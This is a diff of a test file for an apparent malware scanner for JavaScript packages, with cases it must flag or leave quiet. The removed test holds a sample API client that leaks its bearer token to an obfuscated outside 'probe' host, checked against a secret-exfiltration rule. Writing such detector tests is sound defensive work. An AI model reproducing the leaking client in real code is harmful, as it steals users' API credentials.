@@ -291,36 +291,73 @@ exports.start = async (dir) => { const { state, saveCreds } = await useMultiFile
       ),
     ).toEqual([]);
   });
-  it("an API client that copies the authorization header it built into a second request's body", () => {
-    const found = rules({
-      'index.js': `const PROBE = 'https://' + ['lat', 'ency'].join('') + '.example-edge.com/v1/probe';
-function mirror(url, init) { fetch(PROBE, { method: 'POST', body: JSON.stringify({ target: url, headers: init.headers }) }).catch(() => {}); }
-exports.createClient = (opts) => ({
-  chat: async (body) => {
-    const init = { method: 'POST', headers: { authorization: \`Bearer \${opts.apiKey}\` }, body: JSON.stringify(body) };
-    mirror('https://api.example-llm.com/v1/chat', init);
-    return (await fetch('https://api.example-llm.com/v1/chat', init)).json();
-  },
-});`,
-    });
-    expect(found).toContain('js.request-secret-exfil');
-  });
-  it('quiet: the same client sending its header with its own requests, and logging the status to its endpoint', () => {
+  it('quiet: a bot that answers messages through an AI API and reports its own id to a dashboard', () => {
     expect(
       threatsOf(
         analyzeSource({
           'package.json': pkg(),
-          'index.js': `exports.createClient = (opts) => ({
-  chat: async (body) => {
-    const init = { method: 'POST', headers: { authorization: \`Bearer \${opts.apiKey}\`, 'content-type': 'application/json' }, body: JSON.stringify(body) };
-    const res = await fetch('https://api.example-llm.com/v1/chat', init);
-    fetch('https://telemetry.example-llm.com/v1/events', { method: 'POST', body: JSON.stringify({ status: res.status, model: body.model }) }).catch(() => {});
-    return res.json();
-  },
-});`,
+          'index.js': `const { default: makeWASocket, useMultiFileAuthState } = require('@whiskeysockets/baileys');
+exports.start = async () => {
+  const { state, saveCreds } = await useMultiFileAuthState('auth_info');
+  const sock = makeWASocket({ auth: state });
+  sock.ev.on('creds.update', saveCreds);
+  sock.ev.on('connection.update', () => fetch('https://dash.example-bots.io/online', { method: 'POST', body: JSON.stringify({ id: sock.user && sock.user.id }) }));
+  sock.ev.on('messages.upsert', async ({ messages }) => { const text = messages[0].message?.conversation; const r = await fetch('https://api.example-ai.com/chat?q=' + encodeURIComponent(text)); await sock.sendMessage(messages[0].key.remoteJid, { text: (await r.json()).reply }); });
+};`,
         }),
       ),
     ).toEqual([]);
+  });
+});
+
+describe('after the review of this session (precision and bounded work)', () => {
+  it('a service-discovery DNS name with the host name in it is not tunnelling (the run-time reading, not the install one)', () => {
+    expect(
+      ruleConf(
+        {
+          'index.js':
+            "exports.register = () => require('dns').lookup(`${require('os').hostname()}.node.consul`, () => {});",
+        },
+        'js.exfil-fingerprint',
+      ),
+    ).toBe(0.6);
+  });
+  it("quiet: a registry server's package template and a GraphQL socket's connection_init token", () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `class ApiError extends Error { constructor(m) { super(m); this.name = 'ApiError'; } }
+exports.template = (name, pj, tgz) => ({ _id: name, name, 'dist-tags': { latest: pj.version }, versions: { [pj.version]: pj }, _attachments: { [name + '.tgz']: { data: tgz } } });
+exports.subscribe = (token) => { const ws = new WebSocket('wss://gql.example-api.com/graphql', 'graphql-transport-ws'); ws.onopen = () => ws.send(JSON.stringify({ type: 'connection_init', payload: { Authorization: \`Bearer \${token}\` } })); return ws; };
+exports.ApiError = ApiError;`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+  it('quiet: an MCP hub whose tool runs the tools of the other servers it is connected to', () => {
+    expect(
+      rules({
+        'index.js': `const { McpServer } = require('@modelcontextprotocol/sdk/server/mcp.js');
+const server = new McpServer({ name: 'hub', version: '1.0.0' });
+server.tool('call_remote', 'Invoke a tool exposed by any other connected server. Pass the server name, the tool name and the full arguments object.', {}, async () => ({ content: [] }));`,
+      }),
+    ).not.toContain('text.tool-shadowing');
+  });
+  it('an agent file ending in an unclosed fence of spaces, and one with many fenced blocks, are read in bounded time', () => {
+    const open = analyzeSource({
+      'package.json': pkg(),
+      'CLAUDE.md': '# Rules\n\n```' + ' '.repeat(120_000),
+    });
+    expect(open.risk_level).toBe('clean');
+    const many = analyzeSource({
+      'package.json': pkg(),
+      'CLAUDE.md': Array.from(
+        { length: 200 },
+        (_, i) => '```sh\n' + 'echo step ' + i + '\n'.repeat(50) + '```\n',
+      ).join('\n'),
+    });
+    expect(many.risk_level).toBe('clean');
   });
 });
 
